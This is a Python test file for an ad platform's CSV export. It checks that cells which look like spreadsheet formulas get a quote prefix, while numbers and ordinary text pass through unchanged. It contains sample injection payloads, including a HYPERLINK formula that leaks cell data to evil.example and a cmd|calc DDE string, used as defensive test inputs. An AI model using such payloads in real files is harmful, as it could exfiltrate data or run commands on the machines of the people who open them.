"""B16: no CSV AdStudio writes holds a cell a spreadsheet would run as a formula."""

import csv
import io
import zipfile
from decimal import Decimal

import pytest
from django.utils import timezone

from brands.models import Role
from campaigns import export, review
from campaigns.models import Slot
from core.csv_formulas import csv_cell_neutralise, csv_writer
from rendering.models import Asset, Format
from tests.factories import CampaignFactory, MembershipFactory, ProductFactory, asset_make

PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.mark.parametrize("text", [
    PAYLOAD, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "-5",
])
def test_B16_text_that_starts_like_a_formula_gets_a_quote(text):
    assert csv_cell_neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["Trail Tent", "", "50% off = deal", "'quoted", "1=1"])
def test_B16_other_text_is_written_as_is(value):
    assert csv_cell_neutralise(value) == value


@pytest.mark.parametrize("number", [-5, -5.5, Decimal("-5.00"), 0, 64])
def test_B16_numbers_stay_numbers(number):
    # Our code wrote them, not a user, and a spreadsheet reads -5 as a number: no formula.
    out = io.StringIO()
    csv_writer(out).writerow([number])
    assert out.getvalue().strip() == str(number)


def test_B16_the_writer_neutralises_every_cell_of_every_row():
    out = io.StringIO()
    writer = csv_writer(out)
    writer.writerow(["name", "price"])
    writer.writerows([[PAYLOAD, Decimal("9.99")], ["@cmd", -1]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["name", "price"], ["'" + PAYLOAD, "9.99"], ["'@cmd", "-1"]]


@pytest.fixture
def hostile_export(db):
    """A campaign whose names are formulas, with one live asset and one live stale asset."""
    marketer = MembershipFactory(role=Role.MARKETER)
    ws = marketer.workspace
    approver = MembershipFactory(workspace=ws, role=Role.APPROVER).user
    campaign = CampaignFactory(workspace=ws, name="+Spring Sale")
    product = ProductFactory(workspace=ws, sku="TENT-01", name=PAYLOAD)
    slots = [Slot.objects.create(campaign=campaign, product=product,
                                 format=Format.objects.get(key=key))
             for key in ("gdn-medium-rectangle", "meta-story")]
    live, stale = (asset_make(slot=slot, author=marketer.user) for slot in slots)
    for asset in (live, stale):
        review.asset_approve(asset=asset, user=approver)
    Asset.objects.filter(pk=stale.pk).update(stale_at=timezone.now(),
                                              stale_reason="@the product changed")
    link = export.campaign_export_link(campaign=campaign, user=marketer.user)
    return link, live


def test_B16_the_export_manifest_neutralises_product_and_campaign_names(client,
                                                                        hostile_export):
    link, live = hostile_export
    response = client.get(link)
    assert response.status_code == 200
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    rows = list(csv.DictReader(io.StringIO(archive.read("manifest.csv").decode())))
    assert len(rows) == 1
    assert rows[0]["product"] == "'" + PAYLOAD
    assert rows[0]["campaign"] == "'+Spring Sale"
    assert rows[0]["sku"] == "TENT-01" and rows[0]["asset_id"] == str(live.pk)
    assert rows[0]["width"] == "64"  # numbers stay numbers


def test_B16_the_exports_list_of_stale_assets_neutralises_them_too(client, hostile_export):
    link, _ = hostile_export
    archive = zipfile.ZipFile(io.BytesIO(b"".join(client.get(link).streaming_content)))
    [row] = list(csv.DictReader(io.StringIO(archive.read("stale.csv").decode())))
    assert row["product"] == "'" + PAYLOAD and row["campaign"] == "'+Spring Sale"
    assert row["stale_reason"] == "'@the product changed"
